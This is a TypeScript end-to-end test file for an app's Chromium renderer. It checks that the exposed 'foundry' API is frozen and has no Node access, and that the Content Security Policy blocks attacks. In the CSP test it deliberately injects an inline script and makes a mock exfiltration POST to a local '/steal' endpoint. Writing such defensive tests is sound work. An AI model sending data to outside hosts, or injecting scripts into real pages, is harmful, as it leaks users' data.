import { describe, expect, it } from 'vitest';
import { CHANNEL_NAMES } from '../../src/shared/channels';
import { chromiumUnavailable, openApp } from './harness';

const unavailable = chromiumUnavailable();

describe.skipIf(unavailable !== null)(`the renderer in real Chromium${unavailable ? ` (skipped: ${unavailable})` : ''}`, () => {
  it('exposes exactly the contract as a frozen window.foundry, and no Node', async () => {
    const app = await openApp();
    try {
      const facts = await app.page.evaluate(() => {
        const api = (window as unknown as { foundry: Record<string, unknown> }).foundry;
        return {
          keys: Object.keys(api),
          frozen: Object.isFrozen(api) && Object.values(api).every((fn) => typeof fn === 'function' && Object.isFrozen(fn)),
          replaced: (() => {
            try {
              (window as unknown as { foundry: unknown }).foundry = {};
            } catch {
              /* strict-mode assignment to a read-only property throws */
            }
            return (window as unknown as { foundry: unknown }).foundry !== api;
          })(),
          require: typeof (window as unknown as { require?: unknown }).require,
          process: typeof (window as unknown as { process?: unknown }).process,
        };
      });
      expect(facts).toEqual({ keys: [...CHANNEL_NAMES], frozen: true, replaced: false, require: 'undefined', process: 'undefined' });
    } finally {
      await app.close();
    }
  });

  it('blocks an injected inline script and a connection to another origin (CSP)', async () => {
    const app = await openApp();
    try {
      const result = await app.page.evaluate(async () => {
        const violations: string[] = [];
        document.addEventListener('securitypolicyviolation', (event) => violations.push(event.violatedDirective));
        const script = document.createElement('script');
        script.textContent = 'window.pwned = true';
        document.body.appendChild(script);
        let fetched = true;
        try {
          await fetch('http://127.0.0.2:9/steal', { method: 'POST', body: 'x' });
        } catch {
          fetched = false;
        }
        await new Promise((resolve) => setTimeout(resolve, 50));
        return { pwned: (window as unknown as { pwned?: boolean }).pwned, fetched, violations };
      });
      expect(result.pwned).toBeUndefined();
      expect(result.fetched).toBe(false);
      expect(result.violations).toEqual(expect.arrayContaining(['script-src-elem', 'connect-src']));
      // These two violations were provoked on purpose; nothing else may have been reported.
      app.problems.splice(0, app.problems.length, ...app.problems.filter((p) => !/CSP violation|Refused to|Content Security Policy|Failed to fetch/.test(p)));
    } finally {
      await app.close();
    }
  });
});
